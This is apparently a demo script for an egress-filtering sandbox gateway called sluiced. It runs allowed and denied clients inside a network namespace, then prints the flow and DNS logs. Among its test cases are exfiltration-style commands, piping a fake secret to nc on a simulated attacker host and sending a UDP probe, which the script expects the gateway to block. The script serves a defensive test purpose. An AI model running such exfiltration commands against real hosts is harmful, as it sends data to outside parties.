#!/bin/bash
# demo.sh: `make demo`: one sandbox behind sluiced, real clients, the audit log.
#
# Builds the simulated internet (tests/lib/testbed.sh), starts sluiced on
# it, puts a sandbox under deploy/examples/policy.json, runs ordinary
# clients from inside it, then shows the flow log, what the upstream DNS
# server was asked and what the attacker host received, and tears it all
# down. A client whose outcome differs from the expected one is reported,
# not fatal. TB_KEEP=1 keeps the run's directory (flows.db, logs).
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
set -u
. "$(dirname "$0")/lib/testbed.sh"

if [ "$(id -u)" != 0 ]; then
	echo "demo: builds network namespaces; run as root" >&2
	exit 1
fi
POLICY=$REPO/deploy/examples/policy.json
if [ -t 1 ]; then
	B=$'\e[1m' G=$'\e[32m' R=$'\e[31m' Y=$'\e[33m' N=$'\e[0m'
else
	B='' G='' R='' Y='' N=''
fi
nunexpected=0

say() {
	printf '\n%s== %s%s\n' "$B" "$*" "$N"
}

# try EXPECT LABEL CMD...: runs CMD in the sandbox, prints whether it got
# through, what it printed and how long it took.
try() {
	local expect=$1 label=$2 t0 t1 out rc got mark
	shift 2
	t0=$(tb_time_ms)
	out=$(tb_in demo timeout 10 "$@" 2>&1)
	rc=$?
	t1=$(tb_time_ms)
	out=$(printf '%s' "$out" | tr '\n' ' ' | sed 's/  */ /g; s/ $//' | cut -c1-70)
	if [ $rc = 0 ]; then got=allowed; else got=denied; fi
	if [ "$got" = "$expect" ]; then
		mark="${G}as expected${N}"
	else
		mark="${Y}UNEXPECTED (expected $expect)${N}"
		nunexpected=$((nunexpected + 1))
	fi
	if [ $got = allowed ]; then
		printf '  %s%-7s%s %-44s %5s ms  %s\n' "$G" "$got" "$N" "$label" \
		    "$((t1 - t0))" "$mark"
	else
		printf '  %s%-7s%s %-44s %5s ms  %s\n' "$R" "$got" "$N" "$label" \
		    "$((t1 - t0))" "$mark"
	fi
	printf '          %s\n' "${out:-(no output)} [exit $rc]"
}

# A UDP datagram that succeeds only if an answer comes back.
UDP_PROBE='
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.connect((sys.argv[1], int(sys.argv[2])))
s.send(b"exfil over udp\n")
try:
    print("reply:", s.recv(100).decode().strip())
except socket.timeout:
    sys.exit("no reply within 2 s")
except OSError as e:
    sys.exit("error: %s" % e)
'

tb_init demo
TB_FINISHED=1	# the demo reports its own outcome; no PASS/FAIL line
say "Building the simulated internet ($P-inet, attacker $P-atk)"
if ! tb_internet_up; then
	echo "demo: the test bed did not come up" >&2
	exit 1
fi
echo "  DNS 198.51.100.53, HTTPS a.test/b.test on 192.0.2.10, HTTP plain.test on 192.0.2.20,"
echo "  a database on 198.51.100.7:5432, an attacker recording everything on 203.0.113.66"

say "Starting sluiced (gateway namespace $TB_NETNS_GW)"
if ! tb_sluiced_start; then
	echo "demo: sluiced did not start (is it built? make all)" >&2
	exit 1
fi
echo "  log: $TB_DIR/sluiced.log, database: $TB_DIR/flows.db"

say "The policy: $POLICY"
sed 's/^/  /' "$POLICY"
echo "\$ sluice policy check $POLICY"
tb_sluice policy check "$POLICY" 2>&1 | sed 's/^/  /'

say "Adding sandbox $P-demo"
echo "\$ sluice sandbox add $P-demo --policy $POLICY"
out=$(tb_sandbox_add demo "$POLICY" 2>&1)
rc=$?
[ -n "$out" ] && printf '%s\n' "$out" | sed 's/^/  /'
if [ $rc != 0 ] || ! ip netns list | grep -q "^$P-demo\\b"; then
	echo "demo: the sandbox was not created (exit $rc)" >&2
	exit 1
fi
echo "\$ sluice sandbox list"
tb_sluice sandbox list 2>&1 | sed 's/^/  /'
gw=$(ip -n "$P-demo" route show default 2>/dev/null | awk '{ print $3; exit }')
echo "  the sandbox's gateway (and resolver): ${gw:-unknown}"

say "Clients inside the sandbox"
CURL=(curl -sS --connect-timeout 5 --max-time 8)
try allowed "https://a.test/ (192.0.2.10:443, SNI a.test)" \
    "${CURL[@]}" --cacert "$TB_CA" --resolve a.test:443:192.0.2.10 https://a.test/
try allowed "http://192.0.2.20/ (plain.test)" \
    "${CURL[@]}" -H "Host: plain.test" http://192.0.2.20/
try allowed "nc 198.51.100.7 5432 (database)" \
    nc -w 3 198.51.100.7 5432
try denied "http://192.0.2.10:80/ (port not allowed)" \
    "${CURL[@]}" http://192.0.2.10/
try denied "nc 203.0.113.66 4444 (attacker)" \
    bash -c 'printf "stolen-secret\n" | nc -w 3 203.0.113.66 4444'
try denied "UDP to 203.0.113.66:9999 (attacker)" \
    "$TB_PY" -c "$UDP_PROBE" 203.0.113.66 9999
try denied "ping 203.0.113.66 (attacker)" \
    ping -c 1 -W 2 203.0.113.66
# The gateway's own resolver: allowed names are forwarded and answered
# (and their addresses bound for this sandbox), others get NXDOMAIN
# without leaving the gateway.
try allowed "DNS a.test via the gateway's resolver" \
    bash -c "out=\$(dig +short +time=2 +tries=1 @${gw:-10.213.0.1} a.test) &&
        echo \$out && [ -n \"\$out\" ]"
try denied "DNS evil.test via the gateway: NXDOMAIN" \
    bash -c "out=\$(dig +time=2 +tries=1 @${gw:-10.213.0.1} evil.test) || exit 1;
        printf '%s\n' \"\$out\" | grep -o 'status: [A-Z]*';
        printf '%s\n' \"\$out\" | grep -q 'status: NOERROR'"
try allowed "https://a.test/ by name, resolved by the gateway" \
    "${CURL[@]}" --cacert "$TB_CA" https://a.test/
try denied "DNS to 198.51.100.53 directly, evil.test" \
    bash -c "out=\$(dig +time=2 +tries=1 @198.51.100.53 evil.test) || exit 1;
        printf '%s\n' \"\$out\" | grep -o 'status: [A-Z]*';
        printf '%s\n' \"\$out\" | grep -q 'status: NOERROR'"

say "The flow log (sqlite3 $TB_DIR/flows.db, view flow_log)"
sleep 0.3	# the writer commits every 50 ms
if [ -e "$TB_DIR/flows.db" ]; then
	sqlite3 -box -cmd ".timeout 2000" "$TB_DIR/flows.db" \
	    "SELECT id, time, proto, src_ip, src_port, dst_ip, dst_port,
	        verdict, reason, rule, substr(policy_sha256, 1, 12) AS policy
	     FROM flow_log" 2>&1 | sed 's/^/  /'
else
	echo "  (no database at $TB_DIR/flows.db)"
fi

say "The DNS log (view dns_log)"
if [ -e "$TB_DIR/flows.db" ]; then
	sqlite3 -box -cmd ".timeout 2000" "$TB_DIR/flows.db" \
	    "SELECT id, time, qname, qtype, rcode, verdict, reason, answers
	     FROM dns_log" 2>&1 | sed 's/^/  /'
fi

say "What the upstream DNS server (198.51.100.53) was asked"
if grep -q 'query\[' "$TB_DIR/dns.log" 2>/dev/null; then
	grep 'query\[' "$TB_DIR/dns.log" | sed 's/^.*query\[/  query[/'
else
	echo "  nothing"
fi

say "What the attacker (203.0.113.66) received"
npk=$(tb_attacker_packet_count)
nco=$(tb_attacker_conn_count)
nud=$(tb_attacker_udp_count)
if [ "$npk" = 0 ]; then
	echo "  ${G}nothing: 0 packets, 0 connections, 0 datagrams${N}"
else
	echo "  ${R}$npk packets, $nco connections, $nud datagrams:${N}"
	sed 's/^/  /' "$TB_DIR/attacker.packets" | head -n 20
	echo "  bytes received:"
	tb_attacker_received | head -c 600 | sed 's/^/    /'
	echo
fi

say "Removing the sandbox"
echo "\$ sluice sandbox del $P-demo"
tb_sluice sandbox del "$P-demo" 2>&1 | sed 's/^/  /'
if [ "$nunexpected" = 0 ]; then
	echo "Every client got the expected outcome."
else
	echo "${Y}$nunexpected client(s) did not get the expected outcome.${N}"
fi
echo "Tearing down."
exit 0
